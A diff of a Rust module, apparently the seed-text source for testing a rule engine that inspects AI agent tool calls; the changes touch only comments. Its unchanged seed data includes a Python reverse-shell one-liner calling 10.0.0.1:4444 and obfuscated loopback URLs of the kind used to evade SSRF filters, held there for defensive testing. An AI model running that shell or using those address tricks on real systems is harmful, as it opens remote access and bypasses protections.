@@ -1,17 +1,17 @@
 // SPDX-License-Identifier: Apache-2.0 OR MIT
 
-//! Texts to start from: the tuning corpus, the rules and their examples, and a few of each kind.
+//! Seed texts: the tuning corpus, the rules and their examples, and a few texts of each kind.
 
 use std::path::{Path, PathBuf};
 
 use serde_json::Value;
 
-/// The repository this was built in.
+/// The root of the repository.
 pub fn repository() -> PathBuf {
     Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
 }
 
-/// The commands of the tuning corpus. The held-out corpus is never looked at.
+/// The commands of the tuning corpus. The held-out corpus is never used.
 pub fn commands() -> Vec<String> {
     let text = std::fs::read_to_string(repository().join("tests/corpus/tuning.jsonl")).unwrap_or_default();
     let command =
@@ -28,7 +28,7 @@ pub fn rules() -> Vec<String> {
     yaml.filter_map(|path| std::fs::read_to_string(path).ok()).collect()
 }
 
-/// The lines of the rule files that may be commands, and each rule alone as a file.
+/// The lines of the rule files that may be commands, and each rule as a file of its own.
 pub fn examples() -> (Vec<String>, Vec<String>) {
     let (mut lines, mut single) = (Vec::new(), Vec::new());
     for text in rules() {
@@ -40,7 +40,7 @@ pub fn examples() -> (Vec<String>, Vec<String>) {
     (lines, single)
 }
 
-/// The events that were recorded of a real client, as a tool's name and its arguments.
+/// Tool names and arguments of events that were captured from a real client.
 pub fn calls() -> Vec<String> {
     let Ok(files) = std::fs::read_dir(repository().join("tests/fixtures/claude-code")) else {
         return Vec::new();
@@ -70,7 +70,7 @@ pub const CODE: &[&str] = &[
     "import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
 ];
 
-/// Addresses.
+/// Seed texts for addresses.
 pub const ADDRESSES: &[&str] = &[
     "https://user:pw@example.com:8443/a/b?c=d#e",
     "http://127.1/",
@@ -90,7 +90,7 @@ pub const ADDRESSES: &[&str] = &[
     "http://０x7f.１/",
 ];
 
-/// Conditions.
+/// Seed texts for conditions.
 pub const CONDITIONS: &[&str] = &[
     r#"event.kind == "pre-tool" && event.source.startsWith("claude")"#,
     r#"event.tool.args.command.matches("^rm( |$)") || size(event.tool.args.command) > 10"#,
@@ -100,7 +100,7 @@ pub const CONDITIONS: &[&str] = &[
     r#"timestamp("2026-01-01T00:00:00Z") < event.ts && duration("1h") > duration("1s")"#,
 ];
 
-/// Texts with something that looks like a secret. None is one: they are put together here.
+/// Texts that look like secrets; they are assembled here, so that no file contains one.
 pub fn secrets() -> Vec<String> {
     let body = "0123456789abcdefghijABCDEFGHIJ456789";
     let heads = [
